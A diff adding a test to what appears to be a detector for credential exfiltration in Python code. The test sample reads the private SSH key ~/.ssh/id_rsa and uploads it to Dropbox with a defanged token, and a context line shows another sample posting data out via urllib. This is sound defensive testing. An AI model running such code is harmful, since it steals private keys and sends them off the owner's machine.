@@ -239,3 +239,14 @@ def test_a_main_written_above_its_helpers_links_their_flow() -> None:
         f"    urllib.request.urlopen({URL!r}, json.dumps(data).encode())\n"
     )
     assert "exfiltration.credentials" in found(src)
+
+
+def test_a_dropbox_upload_is_a_network_send() -> None:
+    src = (
+        "import os, dropbox\nclient = dropbox.Dropbox('defanged-token')\n"
+        "def push():\n    key = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n"
+        "    client.files_upload(key, '/k')\n"
+    )
+    assert "exfiltration.credentials" in found(src, "pkg/sync.py")
+    quiet = src.replace("os.path.expanduser('~/.ssh/id_rsa')", "'report.csv'")
+    assert "exfiltration.credentials" not in found(quiet, "pkg/sync.py")
